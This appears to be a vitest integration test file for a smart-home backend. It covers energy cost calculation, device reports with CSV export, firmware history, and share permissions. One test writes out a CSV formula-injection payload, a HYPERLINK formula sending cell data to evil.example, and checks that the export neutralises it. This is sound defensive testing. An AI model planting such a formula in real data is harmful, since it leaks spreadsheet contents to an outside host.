import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_EMAIL, DEMO_PASSWORD } from '../src/seed/demo.ts';
import { addUser, loggedIn, type Stack, startStack } from './stack.ts';

let stack: Stack;
const H = 3_600_000;
const T0 = Date.UTC(2026, 3, 1, 0, 0);
beforeAll(async () => {
  stack = await startStack();
  // Two hours of a kettle plug: on for the first 30 minutes at 2000 W, then off; one over-voltage fault.
  const plug = stack.ids.plug;
  stack.server.telemetry.ingest(plug, { relay_1: 0, power: 0 }, T0 - 60_000);
  stack.server.telemetry.ingest(plug, { relay_1: 1 }, T0);
  for (let m = 0; m <= 30; m++) stack.server.telemetry.ingest(plug, { power: 2000 }, T0 + m * 60_000);
  stack.server.telemetry.ingest(plug, { relay_1: 0, power: 0 }, T0 + 30 * 60_000 + 1);
  for (let m = 31; m <= 120; m++) stack.server.telemetry.ingest(plug, { power: 0 }, T0 + m * 60_000);
  stack.server.telemetry.ingest(plug, { voltage_error: 1 }, T0 + 45 * 60_000);
});
afterAll(() => stack?.stop());

describe('energy and reports', () => {
  it('derives energy per hour and its cost from the tariff', async () => {
    const token = (await stack.client.login(DEMO_EMAIL, DEMO_PASSWORD)).token;
    const patch = await fetch(`${stack.server.url}/api/v1/users/profile/Tariff/update`, {
      method: 'PATCH',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ pricePerKwh: 0.3, currency: 'EUR' }),
    });
    expect(patch.status).toBe(200);
    const energy = await stack.client.call('energy', {
      params: { entityType: 'DEVICE', entityId: stack.ids.plug },
      query: { startTs: T0, endTs: T0 + 2 * H, bucket: 'HOUR' } as never,
    });
    expect(energy.currency).toBe('EUR');
    expect(energy.totalKwh).toBeCloseTo(1, 2);
    expect(energy.buckets.map((b) => b.bucket)).toEqual(['2026-04-01T00', '2026-04-01T01']);
    expect(energy.buckets[0]?.kwh).toBeCloseTo(1, 2);
    expect(energy.totalCost).toBeCloseTo(0.3, 3);
  });

  it('generates a report with on-time, energy, cost, events and errors, and serves it as CSV', async () => {
    const report = await stack.client.call('generateReport', {
      params: { deviceId: stack.ids.plug },
      body: { startTs: T0, endTs: T0 + 2 * H },
    });
    expect(report.onTimeMs.relay_1).toBe(30 * 60_000 + 1);
    expect(report.energyKwh).toBeCloseTo(1, 2);
    expect(report).toMatchObject({ currency: 'EUR', deviceLabel: 'Kettle plug' });
    expect(report.events.filter((e) => e.key === 'relay_1').map((e) => e.value)).toEqual(['1', '0']);
    expect(report.errors).toEqual([{ ts: T0 + 45 * 60_000, key: 'voltage_error', value: '1' }]);

    const list = await stack.client.call('listReports', { params: { deviceId: stack.ids.plug } });
    expect(list[0]?.id).toBe(report.id);
    expect(
      (await stack.client.call('getReport', { params: { deviceId: stack.ids.plug, reportId: report.id } }))
        .energyKwh,
    ).toBe(report.energyKwh);

    const token = (await stack.client.login(DEMO_EMAIL, DEMO_PASSWORD)).token;
    const csv = await fetch(`${stack.server.url}/api/v1/reports/${stack.ids.plug}/${report.id}/csv`, {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(
      /attachment; filename="hestia-report-2026-04-01-2026-04-01.csv"/,
    );
    const text = await csv.text();
    expect(text).toContain('device,Kettle plug');
    expect(text).toContain('error,voltage_error,1');
    expect(text).toContain('on_time_hours_relay_1,0.5');
  });

  it('refuses bad ranges and other people’s reports', async () => {
    await expect(
      stack.client.call('generateReport', {
        params: { deviceId: stack.ids.plug },
        body: { startTs: 10, endTs: 5 },
      }),
    ).rejects.toMatchObject({
      statusCode: 400,
    });
    await expect(
      stack.client.call('getReport', {
        params: { deviceId: stack.ids.plug, reportId: '00000000-0000-4000-8000-000000000000' },
      }),
    ).rejects.toMatchObject({ statusCode: 404 });
  });

  it('lists firmware changes in the device history, once per new version or state', async () => {
    const plug = stack.ids.plug;
    const F0 = T0 + 10 * H;
    stack.server.telemetry.ingest(plug, { current_fw_version: '5', fw_state: 'UPDATED' }, F0 - H);
    stack.server.telemetry.ingest(plug, { current_fw_version: '5', fw_state: 'UPDATING' }, F0 + 5 * 60_000);
    stack.server.telemetry.ingest(plug, { current_fw_version: '6', fw_state: 'UPDATED' }, F0 + 10 * 60_000);
    stack.server.telemetry.ingest(plug, { current_fw_version: '6', fw_state: 'UPDATED' }, F0 + 20 * 60_000);
    const report = await stack.client.call('generateReport', {
      params: { deviceId: plug },
      body: { startTs: F0, endTs: F0 + H },
    });
    expect(report.events.filter((e) => e.key === 'current_fw_version' || e.key === 'fw_state')).toEqual([
      { ts: F0 + 5 * 60_000, key: 'fw_state', value: 'UPDATING' },
      { ts: F0 + 10 * 60_000, key: 'current_fw_version', value: '6' },
      { ts: F0 + 10 * 60_000, key: 'fw_state', value: 'UPDATED' },
    ]);
  });

  it('lists shares created, accepted and ended: all of them for the owner, only their own for a shared user', async () => {
    const plug = stack.ids.plug;
    await addUser(stack.server, 'reader@example.com', 'ReaderPass1');
    await addUser(stack.server, 'gone@example.com', 'GonePass1');
    const reader = await loggedIn(stack.server.url, 'reader@example.com', 'ReaderPass1');
    const gone = await loggedIn(stack.server.url, 'gone@example.com', 'GonePass1');
    const startTs = Date.now() - H;
    const kept = await stack.client.call('createShare', { params: { id: plug }, body: { scope: 'view' } });
    await reader.call('finalizeShare', { params: { shareToken: kept.token } });
    const ended = await stack.client.call('createShare', {
      params: { id: plug },
      body: { scope: 'control' },
    });
    await gone.call('finalizeShare', { params: { shareToken: ended.token } });
    await stack.client.call('deleteShare', { params: { id: plug, shareId: ended.id } });
    const range = { startTs, endTs: Date.now() + H };

    const shareEvents = (r: { events: Array<{ key: string; value: string }> }) =>
      r.events.filter((e) => e.key.startsWith('share.')).map((e) => `${e.key} ${e.value}`);
    const owners = await stack.client.call('generateReport', { params: { deviceId: plug }, body: range });
    expect(shareEvents(owners).sort()).toEqual([
      'share.accepted gone@example.com',
      'share.accepted reader@example.com',
      'share.created gone@example.com',
      'share.created reader@example.com',
      'share.revoked gone@example.com',
    ]);
    const readers = await reader.call('generateReport', { params: { deviceId: plug }, body: range });
    expect(shareEvents(readers).sort()).toEqual([
      'share.accepted reader@example.com',
      'share.created reader@example.com',
    ]);
    // Someone the device was never shared with, or whose share ended, gets no report at all.
    await expect(
      gone.call('generateReport', { params: { deviceId: plug }, body: range }),
    ).rejects.toMatchObject({ statusCode: 404 });
  });

  it('serves a shared user named like a formula as text in the owner’s CSV', async () => {
    const plug = stack.ids.plug;
    await addUser(stack.server, 'formula@example.com', 'FormulaPass1');
    const guest = await loggedIn(stack.server.url, 'formula@example.com', 'FormulaPass1');
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
    const token = (await guest.login('formula@example.com', 'FormulaPass1')).token;
    const renamed = await fetch(`${stack.server.url}/api/v1/users/profile/Name/update`, {
      method: 'PATCH',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ firstName: name }),
    });
    expect(renamed.status).toBe(200);
    const startTs = Date.now() - H;
    const share = await stack.client.call('createShare', { params: { id: plug }, body: { scope: 'view' } });
    await guest.call('finalizeShare', { params: { shareToken: share.token } });
    const report = await stack.client.call('generateReport', {
      params: { deviceId: plug },
      body: { startTs, endTs: Date.now() + H },
    });
    expect(report.events.some((e) => e.key === 'share.accepted' && e.value === name)).toBe(true);
    const owner = (await stack.client.login(DEMO_EMAIL, DEMO_PASSWORD)).token;
    const csv = await fetch(`${stack.server.url}/api/v1/reports/${plug}/${report.id}/csv`, {
      headers: { authorization: `Bearer ${owner}` },
    });
    const rows = (await csv.text()).split('\r\n').filter((l) => l.includes('share.accepted'));
    const quoted = `"'${name.replaceAll('"', '""')}"`;
    expect(rows).toContainEqual(expect.stringMatching(/,event,share\.accepted,/));
    const mine = rows.find((l) => l.includes('HYPERLINK')) ?? '';
    // The cell starts with a quote mark, so a spreadsheet shows it as text and never runs it.
    expect(mine.endsWith(`,event,share.accepted,${quoted}`)).toBe(true);
    expect(rows.every((l) => !/,=|,"=/.test(l))).toBe(true);
  });
});
